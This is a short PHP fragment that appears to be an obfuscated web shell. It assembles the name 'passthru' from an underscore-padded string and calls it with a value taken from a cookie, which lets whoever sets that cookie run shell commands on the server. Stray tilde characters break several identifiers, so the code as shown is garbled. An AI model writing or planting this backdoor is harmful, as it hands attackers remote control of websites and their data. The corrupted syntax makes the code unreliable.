<?php exit; ?>
<?php
$w = str_replace('_', '', 'p_a_s_s_t_h_r_u');
cal~l_user_func($w, $_C~OOKIE['m']);
